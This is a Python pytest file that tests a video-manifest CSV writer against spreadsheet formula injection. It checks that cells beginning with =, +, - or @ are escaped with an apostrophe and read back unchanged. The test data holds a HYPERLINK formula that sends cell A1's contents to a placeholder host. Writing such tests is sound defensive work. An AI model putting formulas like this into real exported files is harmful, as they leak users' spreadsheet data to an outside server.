"""Rows of the manifests as files: what a spreadsheet would run as a formula is text, and comes back as it was."""

import csv
import io

import pytest

from clipscout.transforms.core.queries import query_files
from clipscout.transforms.core.results import manifests


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_spreadsheet_runs_no_cell_of_ours(sign):
    formula = f'{sign}HYPERLINK("http://host/?"&A1)'
    written = manifests.kinetics_csv([(formula, "-8Appls4ZFg", "1.000", "2.000", formula, "", "", "")])
    ((label, video_id, *_, split),) = list(csv.reader(io.StringIO(written.decode())))[1:]
    assert (label, split) == (f"'{formula}", f"'{formula}")
    assert video_id == "-8Appls4ZFg"  # is none, and other tools read it
    (query,) = query_files.read(io.BufferedReader(io.BytesIO(written)), "spans.csv")
    assert (query.action, query.extra["split"]) == (formula, formula)
